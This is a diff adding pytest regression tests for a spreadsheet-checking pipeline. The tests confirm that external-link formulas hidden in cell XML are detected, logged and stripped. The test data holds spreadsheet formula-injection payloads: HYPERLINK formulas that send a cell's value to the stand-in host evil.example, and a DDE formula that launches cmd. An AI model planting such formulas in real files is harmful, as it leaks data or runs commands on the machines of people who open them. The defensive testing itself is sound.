@@ -1,0 +1,61 @@
+"""Regression tests for the review of issue 13: each test failed before its fix."""
+
+from __future__ import annotations
+
+import re
+import shutil
+from pathlib import Path
+
+import openpyxl
+import pytest
+
+import hostile
+from conftest import read_log, run_cli, unit_file
+
+# 1. Formulas the raw-bytes pre-filter could not see ------------------------------------------
+
+HIDDEN_FORMULAS = {
+    "charref": '&#72;YPERLINK("http://evil.example/?q="&amp;B7,5)',
+    "cdata": '<![CDATA[HYPERLINK("http://evil.example/?q="&B7,5)]]>',
+    "dde": "cmd&#124;'/C calc'!A0",
+    "comment": 'HYPER<!-- x -->LINK("http://evil.example/?q="&amp;B7,5)',
+}
+
+
+def _hidden_formula(path: Path, tmp_path: Path, formula: str) -> None:
+    """G7 holds ``formula`` (cached 5); E7 is negative, so the file gets a feedback copy."""
+    def sheet(xml: str) -> str:
+        xml, n = re.subn(r'<c r="G7" s="(\d+)"><v>[^<]*</v></c>', rf'<c r="G7" s="\1"><f>{formula}</f><v>5</v></c>', xml)
+        assert n == 1
+        xml, n = re.subn(r'<c r="E7" s="(\d+)"><v>[^<]*</v></c>', r'<c r="E7" s="\1"><v>-1</v></c>', xml)
+        assert n == 1
+        return xml
+
+    tmp = tmp_path / "rewritten.xlsx"
+    hostile.rewrite(path, tmp, {hostile.SHEET1: sheet})
+    shutil.copy(tmp, path)
+
+
+def _assert_logged_and_stripped(out: Path, name: str) -> None:
+    log = [e for e in read_log(out) if e["file"] == name]
+    assert [e["cell"] for e in log if e["code"] == "formula-external"] == ["G7"]
+    ws = openpyxl.load_workbook(out / "phan-hoi" / name)["Biểu mẫu 1"]
+    assert ws["G7"].value == 5  # the cached value, no formula
+
+
+@pytest.mark.parametrize("variant", sorted(HIDDEN_FORMULAS))
+def test_a_formula_hidden_by_xml_escapes_is_logged_and_stripped_on_every_path(inbox, tmp_path, variant):
+    from consolidate.pipeline import check
+
+    an = unit_file(inbox, "x-phuoc-an")
+    _hidden_formula(an, tmp_path, HIDDEN_FORMULAS[variant])
+    ((_, found),) = check([an])
+    assert [p.cell for p in found if p.code == "formula-external"] == ["G7"]
+    small = tmp_path / "small"
+    small.mkdir()
+    for code in ("x-phuoc-an", "x-phuoc-hoa", "x-phuoc-loc"):
+        shutil.copy(unit_file(inbox, code), small)
+    run_cli("run", small, "--out", tmp_path / "out-small")
+    _assert_logged_and_stripped(tmp_path / "out-small", an.name)
+    run_cli("run", inbox, "--out", tmp_path / "out-large")
+    _assert_logged_and_stripped(tmp_path / "out-large", an.name)
